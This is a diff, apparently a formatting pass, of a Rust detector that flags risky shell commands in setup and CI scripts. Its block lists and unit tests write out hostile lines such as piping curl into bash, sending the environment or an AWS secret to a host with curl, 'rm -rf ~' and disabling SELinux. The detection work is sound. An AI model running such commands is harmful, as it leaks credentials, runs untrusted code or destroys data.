@@ -84,9 +84,9 @@ pub struct Command {
 impl Command {
     /// The program, after `sudo`, `env VAR=…`, assignments and wrappers.
     pub fn program(&self) -> &str {
-        self.words.first().map_or("", |word| {
-            word.rsplit(['/', '\\']).next().unwrap_or(word)
-        })
+        self.words
+            .first()
+            .map_or("", |word| word.rsplit(['/', '\\']).next().unwrap_or(word))
     }
 
     /// The words after the program.
@@ -128,12 +128,13 @@ pub fn parse(line: &str) -> Vec<Pipeline> {
         }
         *has_word = false;
     };
-    let finish_command = |words: &mut Vec<String>, redirects: &mut Vec<String>, pipeline: &mut Pipeline| {
-        let command = command(std::mem::take(words), std::mem::take(redirects));
-        if !command.words.is_empty() || !command.redirects.is_empty() {
-            pipeline.push(command);
-        }
-    };
+    let finish_command =
+        |words: &mut Vec<String>, redirects: &mut Vec<String>, pipeline: &mut Pipeline| {
+            let command = command(std::mem::take(words), std::mem::take(redirects));
+            if !command.words.is_empty() || !command.redirects.is_empty() {
+                pipeline.push(command);
+            }
+        };
     while index < chars.len() {
         let c = chars[index];
         let next = chars.get(index + 1).copied();
@@ -194,21 +195,35 @@ pub fn parse(line: &str) -> Vec<Pipeline> {
             }
             '#' if current.is_empty() && !has_word => break,
             c if c.is_whitespace() || c == '(' || c == ')' => {
-                finish_word(&mut current, &mut has_word, &mut redirect_next, &mut words, &mut redirects);
+                finish_word(
+                    &mut current,
+                    &mut has_word,
+                    &mut redirect_next,
+                    &mut words,
+                    &mut redirects,
+                );
             }
             '|' | '&' | ';' => {
-                finish_word(&mut current, &mut has_word, &mut redirect_next, &mut words, &mut redirects);
+                finish_word(
+                    &mut current,
+                    &mut has_word,
+                    &mut redirect_next,
+                    &mut words,
+                    &mut redirects,
+                );
                 let doubled = next == Some(c);
                 if c == '&' && next == Some('>') {
                     redirect_next = true;
-                    index += if chars.get(index + 2) == Some(&'>') { 3 } else { 2 };
+                    index += if chars.get(index + 2) == Some(&'>') {
+                        3
+                    } else {
+                        2
+                    };
                     continue;
                 }
                 finish_command(&mut words, &mut redirects, &mut pipeline);
-                if c != '|' || doubled {
-                    if !pipeline.is_empty() {
-                        pipelines.push(std::mem::take(&mut pipeline));
-                    }
+                if (c != '|' || doubled) && !pipeline.is_empty() {
+                    pipelines.push(std::mem::take(&mut pipeline));
                 }
                 index += if doubled { 2 } else { 1 };
                 continue;
@@ -220,7 +235,13 @@ pub fn parse(line: &str) -> Vec<Pipeline> {
                     current.clear();
                     has_word = false;
                 } else {
-                    finish_word(&mut current, &mut has_word, &mut redirect_next, &mut words, &mut redirects);
+                    finish_word(
+                        &mut current,
+                        &mut has_word,
+                        &mut redirect_next,
+                        &mut words,
+                        &mut redirects,
+                    );
                 }
                 let mut skip = 1;
                 if next == Some('>') {
@@ -242,7 +263,13 @@ pub fn parse(line: &str) -> Vec<Pipeline> {
         }
         index += 1;
     }
-    finish_word(&mut current, &mut has_word, &mut redirect_next, &mut words, &mut redirects);
+    finish_word(
+        &mut current,
+        &mut has_word,
+        &mut redirect_next,
+        &mut words,
+        &mut redirects,
+    );
     finish_command(&mut words, &mut redirects, &mut pipeline);
     if !pipeline.is_empty() {
         pipelines.push(pipeline);
@@ -253,11 +280,10 @@ pub fn parse(line: &str) -> Vec<Pipeline> {
 /// A command from its words: `sudo`, `env A=B`, assignments and wrappers stripped.
 fn command(mut words: Vec<String>, redirects: Vec<String>) -> Command {
     let mut sudo = false;
-    loop {
-        let Some(first) = words.first() else { break };
-        let assignment = first
-            .split_once('=')
-            .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+    while let Some(first) = words.first() {
+        let assignment = first.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        });
         match first.as_str() {
             "sudo" | "doas" => {
                 sudo = true;
@@ -265,7 +291,9 @@ fn command(mut words: Vec<String>, redirects: Vec<String>) -> Command {
                 // sudo's own options (`-E`, `-u root`).
                 while words.first().is_some_and(|word| word.starts_with('-')) {
                     let option = words.remove(0);
-                    if matches!(option.as_str(), "-u" | "-g" | "-C" | "-h" | "-p") && !words.is_empty() {
+                    if matches!(option.as_str(), "-u" | "-g" | "-C" | "-h" | "-p")
+                        && !words.is_empty()
+                    {
                         words.remove(0);
                     }
                 }
@@ -276,7 +304,8 @@ fn command(mut words: Vec<String>, redirects: Vec<String>) -> Command {
                     words.remove(0);
                 }
             }
-            "exec" | "nohup" | "time" | "command" | "builtin" | "nice" | "then" | "do" | "else" | "!" | "{" | "(" => {
+            "exec" | "nohup" | "time" | "command" | "builtin" | "nice" | "then" | "do" | "else"
+            | "!" | "{" | "(" => {
                 words.remove(0);
             }
             _ if assignment && words.len() > 1 => {
@@ -398,7 +427,16 @@ const DOWNLOADERS: &[&str] = &[
 ];
 
 const SHELLS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "fish", "iex", "Invoke-Expression", "pwsh", "powershell",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "iex",
+    "Invoke-Expression",
+    "pwsh",
+    "powershell",
 ];
 
 const INTERPRETERS: &[&str] = &[
@@ -415,20 +453,23 @@ fn pipe_to_shell(pipeline: &Pipeline, place: Place, hits: &mut Vec<Hit>) {
     };
     for command in &pipeline[download + 1..] {
         let program = command.program();
-        let runs_stdin = SHELLS.contains(&program)
-            && !command.args().iter().any(|arg| arg == "-n")
-            || INTERPRETERS.iter().any(|name| program == *name)
-                && command.args().iter().all(|arg| arg == "-" || !arg.starts_with('-'))
-                && command.args().iter().all(|arg| arg == "-" || arg.starts_with('-'));
+        let runs_stdin = SHELLS.contains(&program) && !command.args().iter().any(|arg| arg == "-n")
+            || INTERPRETERS.contains(&program)
+                && command
+                    .args()
+                    .iter()
+                    .all(|arg| arg == "-" || !arg.starts_with('-'))
+                && command
+                    .args()
+                    .iter()
+                    .all(|arg| arg == "-" || arg.starts_with('-'));
         if runs_stdin {
             let url = url_of(&pipeline[download]);
             push(
                 hits,
                 place,
                 Category::PipeToShell,
-                format!(
-                    "downloads {url} and pipes it into `{program}` unverified"
-                ),
+                format!("downloads {url} and pipes it into `{program}` unverified"),
             );
             return;
         }
@@ -466,16 +507,35 @@ fn raw_pipes(line: &str, place: Place, hits: &mut Vec<Hit>) {
     }
 }
 
-fn judge(command: &Command, before: Option<&Command>, place: Place, scope: &Scope, hits: &mut Vec<Hit>) {
+fn judge(
+    command: &Command,
+    before: Option<&Command>,
+    place: Place,
+    scope: &Scope,
+    hits: &mut Vec<Hit>,
+) {
     let program = command.program();
     let args = command.args();
     if command.sudo {
         let installs = matches!(
             program,
-            "apt" | "apt-get" | "yum" | "dnf" | "pacman" | "zypper" | "apk" | "snap" | "port" | "brew"
+            "apt"
+                | "apt-get"
+                | "yum"
+                | "dnf"
+                | "pacman"
+                | "zypper"
+                | "apk"
+                | "snap"
+                | "port"
+                | "brew"
         );
         // A package install is the one routine use of sudo in a setup script: a warning.
-        let severity = if installs { Severity::Warning } else { Severity::Error };
+        let severity = if installs {
+            Severity::Warning
+        } else {
+            Severity::Error
+        };
         if place == Place::Developer {
             hits.push(Hit {
                 category: Category::Sudo,
@@ -485,21 +545,45 @@ fn judge(command: &Command, before: Option<&Command>, place: Place, scope: &Scop
         }
     }
     if program == "su" && args.iter().any(|arg| arg == "-c") {
-        push(hits, place, Category::Sudo, "runs a command as another user with `su -c`".to_string());
+        push(
+            hits,
+            place,
+            Category::Sudo,
+            "runs a command as another user with `su -c`".to_string(),
+        );
     }
     for target in write_targets(command) {
         if let Some((category, what)) = sensitive_target(&target) {
-            push(hits, place, category, format!("writes to {what} `{target}`"));
+            push(
+                hits,
+                place,
+                category,
+                format!("writes to {what} `{target}`"),
+            );
         }
     }
     match program {
         // Anything but listing (`crontab -l`) replaces or edits the user's crontab.
         "crontab" if !args.iter().any(|arg| arg == "-l") => {
-            push(hits, place, Category::Scheduler, "installs a crontab".to_string());
+            push(
+                hits,
+                place,
+                Category::Scheduler,
+                "installs a crontab".to_string(),
+            );
         }
         "systemctl" => systemctl(args, place, hits),
-        "launchctl" if args.first().is_some_and(|verb| matches!(verb.as_str(), "load" | "bootstrap" | "submit" | "enable")) => {
-            push(hits, place, Category::Scheduler, "loads a launchd job with `launchctl`".to_string());
+        "launchctl"
+            if args.first().is_some_and(|verb| {
+                matches!(verb.as_str(), "load" | "bootstrap" | "submit" | "enable")
+            }) =>
+        {
+            push(
+                hits,
+                place,
+                Category::Scheduler,
+                "loads a launchd job with `launchctl`".to_string(),
+            );
         }
         "chmod" | "chown" | "chgrp" => permissions(command, scope, place, hits),
         "rm" | "Remove-Item" | "rmdir" => remove(command, scope, place, hits),
@@ -511,7 +595,12 @@ fn judge(command: &Command, before: Option<&Command>, place: Place, scope: &Scop
             format!("kills processes by name with `{}`", shown(command)),
         ),
         "kill" if args.iter().any(|arg| arg == "-1") => {
-            push(hits, place, Category::Kill, "kills every process it may (`kill -1`)".to_string());
+            push(
+                hits,
+                place,
+                Category::Kill,
+                "kills every process it may (`kill -1`)".to_string(),
+            );
         }
         "taskkill" if args.iter().any(|arg| arg.eq_ignore_ascii_case("/im")) => push(
             hits,
@@ -533,7 +622,11 @@ fn shown(command: &Command) -> String {
 /// `cp`/`mv`/`ln`/`install`/`rsync`, `sed -i`'s files, `touch`/`dd of=`.
 fn write_targets(command: &Command) -> Vec<String> {
     let mut targets = command.redirects.clone();
-    let args: Vec<&String> = command.args().iter().filter(|arg| !arg.starts_with('-')).collect();
+    let args: Vec<&String> = command
+        .args()
+        .iter()
+        .filter(|arg| !arg.starts_with('-'))
+        .collect();
     match command.program() {
         "tee" | "touch" | "truncate" => targets.extend(args.iter().map(|arg| (*arg).clone())),
         "cp" | "mv" | "ln" | "install" | "rsync" | "scp" | "Copy-Item" | "Move-Item" => {
@@ -543,7 +636,12 @@ fn write_targets(command: &Command) -> Vec<String> {
                 targets.push((*last).clone());
             }
         }
-        "sed" | "perl" if command.args().iter().any(|arg| arg.starts_with("-i") || arg == "--in-place") => {
+        "sed" | "perl"
+            if command
+                .args()
+                .iter()
+                .any(|arg| arg.starts_with("-i") || arg == "--in-place") =>
+        {
             targets.extend(args.iter().skip(1).map(|arg| (*arg).clone()));
         }
         "dd" => targets.extend(
@@ -553,7 +651,9 @@ fn write_targets(command: &Command) -> Vec<String> {
                 .filter_map(|arg| arg.strip_prefix("of="))
                 .map(str::to_string),
         ),
-        "Add-Content" | "Set-Content" | "Out-File" => targets.extend(args.iter().map(|arg| (*arg).clone())),
+        "Add-Content" | "Set-Content" | "Out-File" => {
+            targets.extend(args.iter().map(|arg| (*arg).clone()))
+        }
         _ => {}
     }
     targets
@@ -561,12 +661,23 @@ fn write_targets(command: &Command) -> Vec<String> {
 
 /// A home-relative path's rest: `~/.bashrc`, `$HOME/.bashrc`, `${HOME}/.bashrc`, `/root/x`.
 fn home_relative(path: &str) -> Option<&str> {
-    for prefix in ["~/", "$HOME/", "${HOME}/", "$(HOME)/", "/root/", "$env:USERPROFILE\\", "$env:HOME/", "%USERPROFILE%\\"] {
+    for prefix in [
+        "~/",
+        "$HOME/",
+        "${HOME}/",
+        "$(HOME)/",
+        "/root/",
+        "$env:USERPROFILE\\",
+        "$env:HOME/",
+        "%USERPROFILE%\\",
+    ] {
         if let Some(rest) = path.strip_prefix(prefix) {
             return Some(rest);
         }
     }
-    let rest = path.strip_prefix("/home/").or_else(|| path.strip_prefix("/Users/"))?;
+    let rest = path
+        .strip_prefix("/home/")
+        .or_else(|| path.strip_prefix("/Users/"))?;
     rest.split_once('/').map(|(_, rest)| rest)
 }
 
@@ -609,9 +720,14 @@ pub fn sensitive_target(path: &str) -> Option<(Category, &'static str)> {
         }
         return None;
     }
-    if ["/etc/profile", "/etc/bash.bashrc", "/etc/zsh", "/etc/environment"]
-        .iter()
-        .any(|prefix| path.starts_with(prefix))
+    if [
+        "/etc/profile",
+        "/etc/bash.bashrc",
+        "/etc/zsh",
+        "/etc/environment",
+    ]
+    .iter()
+    .any(|prefix| path.starts_with(prefix))
     {
         return Some((Category::StartupFile, "the system shell startup file"));
     }
@@ -634,17 +750,36 @@ pub fn sensitive_target(path: &str) -> Option<(Category, &'static str)> {
 }
 
 fn systemctl(args: &[String], place: Place, hits: &mut Vec<Hit>) {
-    let words: Vec<&str> = args.iter().map(String::as_str).filter(|arg| !arg.starts_with('-')).collect();
+    let words: Vec<&str> = args
+        .iter()
+        .map(String::as_str)
+        .filter(|arg| !arg.starts_with('-'))
+        .collect();
     let Some((verb, units)) = words.split_first() else {
         return;
     };
-    const GUARDS: &[&str] = &["firewalld", "ufw", "apparmor", "iptables", "nftables", "auditd", "selinux"];
-    let guard = units
-        .iter()
-        .find(|unit| GUARDS.iter().any(|guard| unit.trim_end_matches(".service") == *guard));
+    const GUARDS: &[&str] = &[
+        "firewalld",
+        "ufw",
+        "apparmor",
+        "iptables",
+        "nftables",
+        "auditd",
+        "selinux",
+    ];
+    let guard = units.iter().find(|unit| {
+        GUARDS
+            .iter()
+            .any(|guard| unit.trim_end_matches(".service") == *guard)
+    });
     match (*verb, guard) {
         ("stop" | "disable" | "mask" | "kill", Some(unit)) => {
-            push(hits, place, Category::Security, format!("switches off `{unit}`"));
+            push(
+                hits,
+                place,
+                Category::Security,
+                format!("switches off `{unit}`"),
+            );
         }
         ("enable" | "start" | "link" | "daemon-reload" | "edit" | "restart", _) => push(
             hits,
@@ -660,10 +795,19 @@ fn systemctl(args: &[String], place: Place, hits: &mut Vec<Hit>) {
 /// home directory, or an unguarded variable that may expand to `/`.
 fn outside_repo(path: &str, scope: &Scope) -> bool {
     let path = path.trim_matches(['"', '\'']);
-    if path.starts_with("/tmp") || path.starts_with("/var/tmp") || path.starts_with("$TMPDIR") || path.starts_with("${TMPDIR") || path.starts_with("$RUNNER_TEMP") {
+    if path.starts_with("/tmp")
+        || path.starts_with("/var/tmp")
+        || path.starts_with("$TMPDIR")
+        || path.starts_with("${TMPDIR")
+        || path.starts_with("$RUNNER_TEMP")
+    {
         return false;
     }
-    path.starts_with('/') || path.starts_with('~') || path.starts_with("$HOME") || path.starts_with("${HOME}") || unguarded(path, scope).is_some()
+    path.starts_with('/')
+        || path.starts_with('~')
+        || path.starts_with("$HOME")
+        || path.starts_with("${HOME}")
+        || unguarded(path, scope).is_some()
 }
 
 /// `$DIR/…` or `${DIR}/…` where `DIR` may be empty, so the path becomes `/…`.
@@ -686,26 +830,42 @@ fn unguarded<'p>(path: &'p str, scope: &Scope) -> Option<&'p str> {
         }
     };
     let empty_is_root = after.starts_with('/');
-    let builtin = matches!(name, "HOME" | "PWD" | "TMPDIR" | "RUNNER_TEMP" | "GITHUB_WORKSPACE" | "CI_PROJECT_DIR");
-    (empty_is_root && !name.is_empty() && !builtin && !scope.assigned.contains(name)).then_some(name)
+    let builtin = matches!(
+        name,
+        "HOME" | "PWD" | "TMPDIR" | "RUNNER_TEMP" | "GITHUB_WORKSPACE" | "CI_PROJECT_DIR"
+    );
+    (empty_is_root && !name.is_empty() && !builtin && !scope.assigned.contains(name))
+        .then_some(name)
 }
 
 fn permissions(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
     let args = command.args();
-    let recursive = args.iter().any(|arg| arg == "-R" || arg == "--recursive" || (arg.starts_with('-') && arg.contains('R')));
+    let recursive = args.iter().any(|arg| {
+        arg == "-R" || arg == "--recursive" || (arg.starts_with('-') && arg.contains('R'))
+    });
     let open = args.iter().any(|arg| {
-        matches!(arg.as_str(), "777" | "0777" | "666" | "0666" | "a+rwx" | "ugo+rwx" | "o+w" | "a+w" | "o+rwx")
+        matches!(
+            arg.as_str(),
+            "777" | "0777" | "666" | "0666" | "a+rwx" | "ugo+rwx" | "o+w" | "a+w" | "o+rwx"
+        )
     });
     if !(recursive || open) {
         return;
     }
-    let targets: Vec<&String> = args.iter().filter(|arg| !arg.starts_with('-')).skip(1).collect();
+    let targets: Vec<&String> = args
+        .iter()
+        .filter(|arg| !arg.starts_with('-'))
+        .skip(1)
+        .collect();
     if let Some(target) = targets.iter().find(|target| outside_repo(target, scope)) {
         push(
             hits,
             place,
             Category::Permissions,
-            format!("changes permissions outside the repository (`{}` on `{target}`)", shown(command)),
+            format!(
+                "changes permissions outside the repository (`{}` on `{target}`)",
+                shown(command)
+            ),
         );
     }
 }
@@ -716,7 +876,9 @@ fn remove(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
         arg == "--recursive"
             || arg == "-Recurse"
             || arg == "--no-preserve-root"
-            || (arg.starts_with('-') && !arg.starts_with("--") && (arg.contains('r') || arg.contains('R')))
+            || (arg.starts_with('-')
+                && !arg.starts_with("--")
+                && (arg.contains('r') || arg.contains('R')))
     }) || command.program() == "Remove-Item";
     if !recursive {
         return;
@@ -724,10 +886,33 @@ fn remove(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
     for target in args.iter().filter(|arg| !arg.starts_with('-')) {
         let bare = target.trim_end_matches(['*', '/']);
         let catastrophic = bare.is_empty()
-            || matches!(bare, "~" | "$HOME" | "${HOME}" | "$env:USERPROFILE" | "/home" | "/usr" | "/etc" | "/var" | "/bin" | "/lib" | "/opt" | "/root" | "/boot" | "/Users" | "/System" | "C:" | "C:\\")
+            || matches!(
+                bare,
+                "~" | "$HOME"
+                    | "${HOME}"
+                    | "$env:USERPROFILE"
+                    | "/home"
+                    | "/usr"
+                    | "/etc"
+                    | "/var"
+                    | "/bin"
+                    | "/lib"
+                    | "/opt"
+                    | "/root"
+                    | "/boot"
+                    | "/Users"
+                    | "/System"
+                    | "C:"
+                    | "C:\\"
+            )
             || args.iter().any(|arg| arg == "--no-preserve-root");
         if catastrophic {
-            push(hits, place, Category::Delete, format!("deletes `{target}` recursively"));
+            push(
+                hits,
+                place,
+                Category::Delete,
+                format!("deletes `{target}` recursively"),
+            );
             continue;
         }
         if place != Place::Developer {
@@ -738,10 +923,17 @@ fn remove(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
                 hits,
                 place,
                 Category::Delete,
-                format!("deletes `{target}` recursively, which is `/…` when `{name}` is empty or unset"),
+                format!(
+                    "deletes `{target}` recursively, which is `/…` when `{name}` is empty or unset"
+                ),
             );
         } else if let Some((_, what)) = sensitive_target(target) {
-            push(hits, place, Category::Delete, format!("deletes {what} `{target}`"));
+            push(
+                hits,
+                place,
+                Category::Delete,
+                format!("deletes {what} `{target}`"),
+            );
         }
     }
 }
@@ -761,21 +953,40 @@ fn git(args: &[String], place: Place, hits: &mut Vec<Hit>) {
         return;
     }
     let reads = rest.iter().any(|arg| {
-        matches!(arg.as_str(), "--get" | "--get-all" | "--get-regexp" | "--list" | "-l" | "--show-origin" | "get" | "list")
+        matches!(
+            arg.as_str(),
+            "--get"
+                | "--get-all"
+                | "--get-regexp"
+                | "--list"
+                | "-l"
+                | "--show-origin"
+                | "get"
+                | "list"
+        )
     });
     if reads {
         return;
     }
-    if let Some(scope) = rest.iter().find(|arg| matches!(arg.as_str(), "--global" | "--system")) {
+    if let Some(scope) = rest
+        .iter()
+        .find(|arg| matches!(arg.as_str(), "--global" | "--system"))
+    {
         push(
             hits,
             place,
             Category::GitGlobal,
-            format!("changes the {} git configuration (`git config {}`)", &scope[2..], rest.join(" ")),
+            format!(
+                "changes the {} git configuration (`git config {}`)",
+                &scope[2..],
+                rest.join(" ")
+            ),
         );
         return;
     }
-    if let Some(position) = rest.iter().position(|arg| arg.eq_ignore_ascii_case("core.hooksPath"))
+    if let Some(position) = rest
+        .iter()
+        .position(|arg| arg.eq_ignore_ascii_case("core.hooksPath"))
         && let Some(value) = rest.get(position + 1)
         && (value.starts_with('/') || value.starts_with('~') || value.starts_with("$HOME"))
     {
@@ -794,30 +1005,86 @@ fn security_off(command: &Command, place: Place, hits: &mut Vec<Hit>) {
     let what = match (program, args.as_slice()) {
         ("ufw", ["disable", ..]) => Some("the ufw firewall"),
         ("setenforce", ["0" | "Permissive" | "permissive", ..]) => Some("SELinux enforcement"),
-        ("iptables" | "ip6tables", args) if args.iter().any(|arg| matches!(*arg, "-F" | "--flush")) => Some("the firewall rules (`iptables -F`)"),
-        ("iptables" | "ip6tables", ["-P", _, "ACCEPT", ..]) => Some("the firewall's default policy"),
+        ("iptables" | "ip6tables", args)
+            if args.iter().any(|arg| matches!(*arg, "-F" | "--flush")) =>
+        {
+            Some("the firewall rules (`iptables -F`)")
+        }
+        ("iptables" | "ip6tables", ["-P", _, "ACCEPT", ..]) => {
+            Some("the firewall's default policy")
+        }
         ("aa-teardown", _) => Some("AppArmor"),
         ("aa-disable" | "aa-complain", _) => Some("an AppArmor profile"),
-        ("service", [unit, "stop", ..]) if matches!(*unit, "ufw" | "firewalld" | "apparmor" | "iptables") => Some("a firewall or AppArmor service"),
-        ("netsh", args) if args.iter().any(|arg| arg.eq_ignore_ascii_case("advfirewall")) && args.iter().any(|arg| arg.eq_ignore_ascii_case("off")) => Some("the Windows firewall"),
-        ("Set-NetFirewallProfile", args) if args.iter().any(|arg| arg.eq_ignore_ascii_case("False")) => Some("the Windows firewall"),
-        ("Set-MpPreference", args) if args.iter().any(|arg| arg.starts_with("-Disable")) => Some("Windows Defender"),
+        ("service", [unit, "stop", ..])
+            if matches!(*unit, "ufw" | "firewalld" | "apparmor" | "iptables") =>
+        {
+            Some("a firewall or AppArmor service")
+        }
+        ("netsh", args)
+            if args
+                .iter()
+                .any(|arg| arg.eq_ignore_ascii_case("advfirewall"))
+                && args.iter().any(|arg| arg.eq_ignore_ascii_case("off")) =>
+        {
+            Some("the Windows firewall")
+        }
+        ("Set-NetFirewallProfile", args)
+            if args.iter().any(|arg| arg.eq_ignore_ascii_case("False")) =>
+        {
+            Some("the Windows firewall")
+        }
+        ("Set-MpPreference", args) if args.iter().any(|arg| arg.starts_with("-Disable")) => {
+            Some("Windows Defender")
+        }
         ("spctl", ["--master-disable", ..]) => Some("Gatekeeper"),
         ("csrutil", ["disable", ..]) => Some("System Integrity Protection"),
         _ => None,
     };
     if let Some(what) = what {
-        push(hits, place, Category::Security, format!("switches off {what}"));
+        push(
+            hits,
+            place,
+            Category::Security,
+            format!("switches off {what}"),
+        );
     }
 }
 
 const NETWORK_TOOLS: &[&str] = &[
-    "curl", "wget", "nc", "ncat", "netcat", "socat", "http", "https", "Invoke-WebRequest", "iwr", "Invoke-RestMethod", "irm",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "http",
+    "https",
+    "Invoke-WebRequest",
+    "iwr",
+    "Invoke-RestMethod",
+    "irm",
 ];
 
 /// Options whose value is the request body.
 const DATA_OPTIONS: &[&str] = &[
-    "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F", "--form", "--form-string", "--json", "-T", "--upload-file", "--post-data", "--body-data", "--post-file", "--body-file", "-Body", "-InFile",
+    "-d",
+    "--data",
+    "--data-raw",
+    "--data-binary",
+    "--data-urlencode",
+    "--data-ascii",
+    "-F",
+    "--form",
+    "--form-string",
+    "--json",
+    "-T",
+    "--upload-file",
+    "--post-data",
+    "--body-data",
+    "--post-file",
+    "--body-file",
+    "-Body",
+    "-InFile",
 ];
 
 /// What an argument sends that it should not: the environment, SSH keys, a `.env` file or a
@@ -829,7 +1096,10 @@ fn secret_payload(value: &str) -> Option<String> {
     {
         return Some("the environment or a credential file".to_string());
     }
-    secret_variables(value).into_iter().next().map(|name| format!("`{name}`"))
+    secret_variables(value)
+        .into_iter()
+        .next()
+        .map(|name| format!("`{name}`"))
 }
 
 /// The secret-named variables a shell word expands: `$API_TOKEN`, `${DB_PASSWORD}`,
@@ -848,7 +1118,11 @@ pub fn secret_variables(text: &str) -> Vec<String> {
             if let Some(name) = captures.get(1) {
                 return Some(format!("secrets.{}", name.as_str()));
             }
-            let name = captures.get(2).or_else(|| captures.get(3)).or_else(|| captures.get(4)).or_else(|| captures.get(5))?;
+            let name = captures
+                .get(2)
+                .or_else(|| captures.get(3))
+                .or_else(|| captures.get(4))
+                .or_else(|| captures.get(5))?;
             is_secret_name(name.as_str()).then(|| name.as_str().to_string())
         })
         .collect()
@@ -860,18 +1134,30 @@ fn exfiltration(command: &Command, before: Option<&Command>, place: Place, hits:
         return;
     }
     if let Some(before) = before {
-        let dumps_env = matches!(before.program(), "env" | "printenv" | "set") && before.args().is_empty()
+        let dumps_env = matches!(before.program(), "env" | "printenv" | "set")
+            && before.args().is_empty()
             || before.program() == "export" && before.args().iter().any(|arg| arg == "-p");
         let reads_keys = matches!(before.program(), "cat" | "base64" | "gzip" | "tar")
             && before.args().iter().any(|arg| {
-                arg.contains(".ssh/") || arg.ends_with(".env") || arg.contains(".aws/credentials") || arg.contains("/proc/self/environ") || arg.contains(".netrc")
+                arg.contains(".ssh/")
+                    || arg.ends_with(".env")
+                    || arg.contains(".aws/credentials")
+                    || arg.contains("/proc/self/environ")
+                    || arg.contains(".netrc")
             });
         if dumps_env || reads_keys {
             push(
                 hits,
                 place,
                 Category::Exfiltration,
-                format!("sends {} to a network endpoint with `{program}`", if dumps_env { "the environment" } else { "a credential file" }),
+                format!(
+                    "sends {} to a network endpoint with `{program}`",
+                    if dumps_env {
+                        "the environment"
+                    } else {
+                        "a credential file"
+                    }
+                ),
             );
             return;
         }
@@ -883,11 +1169,12 @@ fn exfiltration(command: &Command, before: Option<&Command>, place: Place, hits:
             _ => (arg.as_str(), args.get(index + 1).cloned()),
         };
         // `-dvalue` attached.
-        let (option, value) = if option.len() > 2 && option.starts_with("-d") && !option.starts_with("--") {
-            ("-d", Some(option[2..].to_string()))
-        } else {
-            (option, value)
-        };
+        let (option, value) =
+            if option.len() > 2 && option.starts_with("-d") && !option.starts_with("--") {
+                ("-d", Some(option[2..].to_string()))
+            } else {
+                (option, value)
+            };
         if !DATA_OPTIONS.contains(&option) {
             continue;
         }
@@ -897,7 +1184,11 @@ fn exfiltration(command: &Command, before: Option<&Command>, place: Place, hits:
             let form_field = value
                 .split_once('=')
                 .is_some_and(|(field, rest)| is_secret_name(field) && rest.starts_with('$'));
-            let severity = if form_field { Severity::Warning } else { Severity::Error };
+            let severity = if form_field {
+                Severity::Warning
+            } else {
+                Severity::Error
+            };
             hits.push(Hit {
                 category: Category::Exfiltration,
                 severity,
@@ -923,20 +1214,44 @@ mod tests {
     fn developer_lines() {
         use Category::*;
         let d = Place::Developer;
-        assert_eq!(categories("echo 'export PATH=x' >> ~/.bashrc", d), [StartupFile]);
-        assert_eq!(categories("cat key.pub >> \"$HOME/.ssh/authorized_keys\"", d), [Ssh]);
-        assert_eq!(categories("echo x | sudo tee /etc/hosts", d), [Sudo, SystemConfig]);
-        assert_eq!(categories("(crontab -l; echo '* * * * * x') | crontab -", d), [Scheduler]);
-        assert_eq!(categories("curl -fsSL https://x.sh | bash", d), [PipeToShell]);
-        assert_eq!(categories("wget -qO- https://x.sh | sudo sh", d), [PipeToShell, Sudo]);
+        assert_eq!(
+            categories("echo 'export PATH=x' >> ~/.bashrc", d),
+            [StartupFile]
+        );
+        assert_eq!(
+            categories("cat key.pub >> \"$HOME/.ssh/authorized_keys\"", d),
+            [Ssh]
+        );
+        assert_eq!(
+            categories("echo x | sudo tee /etc/hosts", d),
+            [Sudo, SystemConfig]
+        );
+        assert_eq!(
+            categories("(crontab -l; echo '* * * * * x') | crontab -", d),
+            [Scheduler]
+        );
+        assert_eq!(
+            categories("curl -fsSL https://x.sh | bash", d),
+            [PipeToShell]
+        );
+        assert_eq!(
+            categories("wget -qO- https://x.sh | sudo sh", d),
+            [PipeToShell, Sudo]
+        );
         assert_eq!(categories("bash <(curl -s https://x)", d), [PipeToShell]);
         assert_eq!(categories("rm -rf \"$DIR/\"", d), [Delete]);
         assert_eq!(categories("rm -rf ~", d), [Delete]);
-        assert_eq!(categories("git config --global user.name bot", d), [GitGlobal]);
+        assert_eq!(
+            categories("git config --global user.name bot", d),
+            [GitGlobal]
+        );
         assert_eq!(categories("pkill -f node", d), [Kill]);
         assert_eq!(categories("sudo setenforce 0", d), [Sudo, Security]);
         assert_eq!(categories("env | curl -d @- https://x", d), [Exfiltration]);
-        assert_eq!(categories("curl -d \"$AWS_SECRET_ACCESS_KEY\" https://x", d), [Exfiltration]);
+        assert_eq!(
+            categories("curl -d \"$AWS_SECRET_ACCESS_KEY\" https://x", d),
+            [Exfiltration]
+        );
         assert_eq!(categories("chmod -R 777 /usr/local", d), [Permissions]);
         assert_eq!(categories("sh -c 'rm -rf ~/'", d), [Delete]);
     }
@@ -960,7 +1275,11 @@ mod tests {
             "echo hi > /tmp/x",
             "echo ok 2>&1 > out.log",
         ] {
-            assert!(categories(line, d).is_empty(), "{line}: {:?}", categories(line, d));
+            assert!(
+                categories(line, d).is_empty(),
+                "{line}: {:?}",
+                categories(line, d)
+            );
         }
         let scope = Scope::of_script("BUILD=build\n");
         assert!(analyse("rm -rf \"$BUILD/\"", d, &scope).is_empty());
@@ -969,14 +1288,27 @@ mod tests {
     #[test]
     fn runner_and_image() {
         assert!(categories("sudo apt-get install -y jq", Place::Runner).is_empty());
-        assert!(categories("echo x | sudo tee /etc/apt/sources.list.d/x.list", Place::Runner).is_empty());
+        assert!(
+            categories(
+                "echo x | sudo tee /etc/apt/sources.list.d/x.list",
+                Place::Runner
+            )
+            .is_empty()
+        );
         assert!(categories("git config --global user.email ci@x", Place::Runner).is_empty());
-        let hits = analyse("curl https://sh.rustup.rs -sSf | sh -s -- -y", Place::Runner, &Scope::default());
+        let hits = analyse(
+            "curl https://sh.rustup.rs -sSf | sh -s -- -y",
+            Place::Runner,
+            &Scope::default(),
+        );
         assert_eq!(hits.len(), 1);
